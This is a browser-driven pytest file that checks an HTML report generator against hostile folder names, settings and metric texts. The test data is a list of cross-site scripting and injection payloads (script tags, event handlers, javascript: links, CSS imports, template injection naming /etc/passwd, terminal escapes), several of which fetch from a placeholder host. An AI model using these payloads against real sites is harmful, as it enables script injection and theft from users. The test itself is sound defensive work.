"""A page of a hostile folder in a real browser: no request, no script, nothing in the console."""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from report.report_page import NEEDS_BROWSER, find, open_browser
from report.sweeps import search, two_objectives, write
from run_fixtures import CONFIG

from qdmr_ray.report import build_report

pytestmark = [*NEEDS_BROWSER, pytest.mark.slow]
# Names of folders, which hold no slash.
NAMES = (
    "<img src=x onerror=pwned=1>",
    "\"'><svg onload=pwned=1>&lt;b&gt;",
    "{{constructor.constructor('pwned=1')()}}${pwned=1}",
)
# Whatever Chromium would do without being asked, a link, and texts that terminals obey. HOST stands
# for a server that records what it is asked for.
TEXTS = (
    "<script>pwned=1;fetch('http://HOST/script')</script>",
    '"><img src=http://HOST/image onerror=pwned=1>',
    "'><svg/onload=pwned=1><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "</script><script src=http://HOST/script></script>",
    "</style><style>@import 'http://HOST/style';*{background:url(http://HOST/css)}</style>",
    "background:url(http://HOST/url)",
    "--><link rel=stylesheet href=http://HOST/link><base href=http://HOST/base>",
    "<meta http-equiv=refresh content='0;url=http://HOST/refresh'>",
    "</title></textarea><body onload=pwned=1><input autofocus onfocus=pwned=1>",
    "javascript:pwned=1",
    "<a href='javascript:pwned=1' target=_self>a link</a><a href='http://HOST/a'>another</a>",
    "[click](http://HOST/markdown) ![](http://HOST/picture)",
    "{{7*7}} {% include '/etc/passwd' %} ${pwned=1} \\u003cscript>pwned=1\\u003c/script>",
    "\x1b]8;;http://HOST/\x07\x1b[2J \u202etxt.exe\u2066 \ud800",
)


@pytest.fixture(scope="module")
def asked() -> Iterator[tuple[str, list[str]]]:
    """The address of a server, and the paths that it was asked for."""
    paths: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_error(404)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_port}", paths
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    yield from open_browser(tmp_path_factory.mktemp("chromium"))


@pytest.fixture(scope="module")
def text(asked: tuple[str, list[str]]) -> str:
    return " ".join(TEXTS).replace("HOST", asked[0])


def poisoned(value: Any, text: str) -> Any:
    """Returns plain values in which every text is followed by ``text``, keys that are free too."""
    if isinstance(value, dict):
        return {name: poisoned(inner, text) for name, inner in value.items()} | {text: text}
    if isinstance(value, list):
        return [poisoned(inner, text) for inner in value]
    return f"{value} {text}" if isinstance(value, str) else value


@pytest.fixture(scope="module")
def run(make_run: Any, tmp_path_factory: pytest.TempPathFactory, text: str) -> Path:
    """A run whose photographs, settings, notes, metrics and failures are called by these texts."""
    config = poisoned(CONFIG, text) | {"run": CONFIG["run"], "name": f"demo {text}"}
    run: Path = make_run(tmp_path_factory.mktemp("run") / "run", names=NAMES, config=config)
    (run / "notes.json").write_text(json.dumps([text]))
    (run / "environment.json").write_text(json.dumps({"torch": text, "device": text}))
    found = json.loads((run / "evaluation.json").read_text())
    found["failed"] = [{"name": NAMES[0], "reason": text}]
    found["niqe_pristine"] = text
    for values in (found["input"], *found["stages"].values()):
        values[text] = 1.0
    (run / "evaluation.json").write_text(json.dumps(found))
    lines = [
        {"iteration": i, "time": i, text: i, f"source/{text}": i, NAMES[0]: 1} for i in (1, 2, 3)
    ]
    for stage in ("vqgan", "uda"):
        (run / stage / "metrics.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))
    return run


@pytest.fixture(scope="module")
def sweep(make_run: Any, tmp_path_factory: pytest.TempPathFactory, text: str) -> Path:
    """A search whose settings, values, errors and names hold these texts."""
    content = search()
    setting = f"stages.{text}"
    content["name"] = content["code_version"] = content["sampler"] = f"demo {text}"
    content["metrics"][0]["name"] = f"uda/validation/{text}"
    content["space"][setting] = {"choice": [text, NAMES[0]]}
    content["importances"][setting] = 0.3
    content["stages_trained"] = {text: 3, NAMES[0]: 1}
    for trial in content["trials"]:
        trial["settings"] |= {setting: text, text: NAMES[1]}
        trial |= {"name": f"{trial['id']} {text}", "error": text}
        trial["stages"] = {text: text}
    content["test"]["trials"]["0002"][text] = 1.0
    folder = tmp_path_factory.mktemp("sweep")
    make_run(folder / "trials" / "0002", names=NAMES)
    (folder / "best.yaml").write_text(f"name: {json.dumps(text)}\n")
    return write(folder, content)


@pytest.fixture(scope="module")
def front(tmp_path_factory: pytest.TempPathFactory, text: str) -> Path:
    """A search for two metrics called by these texts."""
    content = two_objectives()
    for number, metric in enumerate(content["metrics"]):
        metric["name"] = f"uda/{number} {text}"
    for trial in content["trials"]:
        trial["name"] = f"{trial['id']} {text}"
    return write(tmp_path_factory.mktemp("front"), content)


# Chooses everything that can be chosen, and points at every drawing.
USE = """
for (const e of document.querySelectorAll("input, select")) {
  for (const option of e.options || [e]) {
    if (e.options) e.value = option.value; else e.click();
    for (const kind of ["input", "change"]) e.dispatchEvent(new Event(kind, {bubbles: true}));
  }
}
for (const e of document.querySelectorAll("button, th, tr[data-trial], .trial")) e.click();
for (const e of document.querySelectorAll("svg .drag, svg .point, svg path, canvas")) {
  const box = e.getBoundingClientRect();
  for (const kind of ["mouseover", "mousemove", "mouseenter"])
    e.dispatchEvent(new MouseEvent(kind, {bubbles: true, clientX: box.x + box.width / 2,
                                          clientY: box.y + box.height / 2}));
}
"""
# Where the page's links and sources lead.
LEADS = """
return [...document.querySelectorAll("*")].flatMap(e =>
  ["href", "xlink:href", "src", "srcset", "action", "formaction", "data", "poster", "style"]
    .map(name => e.getAttribute(name)).filter(found => found).map(found => found.toWellFormed()))
"""
# The driver takes no lone surrogates.
SHOWN = "return (document.title + document.body.innerText).toWellFormed()"


@pytest.mark.parametrize("kind", ["run", "sweep", "front"])
def test_a_hostile_page_shows_its_texts_and_does_nothing(
    browser: Any, request: pytest.FixtureRequest, asked: tuple[str, list[str]], kind: str
) -> None:
    from selenium.webdriver.support.ui import WebDriverWait

    address = Path(build_report(request.getfixturevalue(kind))).as_uri()
    browser.get("about:blank")  # away from the browser's own first page and its requests
    browser.get_log("performance")
    browser.get(address)
    # Charts are drawn when they come into view.
    browser.execute_script("for (const e of document.querySelectorAll('details')) e.open = true")
    for plot in browser.find_elements("css selector", ".plot"):
        browser.execute_script("arguments[0].scrollIntoView()", plot)
        WebDriverWait(plot, 20).until(lambda plot: find(plot, ".main-svg"))
    browser.execute_script(USE)

    messages = [json.loads(entry["message"])["message"] for entry in browser.get_log("performance")]
    urls = [
        message["params"]["request"]["url"]
        for message in messages
        if message["method"] == "Network.requestWillBeSent"
    ]
    assert [url for url in urls if not url.startswith("data:")] == [address]
    assert asked[1] == []
    assert browser.get_log("browser") == []
    assert browser.execute_script("return typeof pwned") == "undefined"
    assert browser.current_url.partition("#")[0] == address
    leads = browser.execute_script(LEADS)
    assert leads
    assert not [lead for lead in leads if "javascript:" in lead or asked[0] in lead]
    # They are there, as texts.
    shown = browser.execute_script(SHOWN)
    assert f"<script>pwned=1;fetch('http://{asked[0]}/script')</script>" in shown
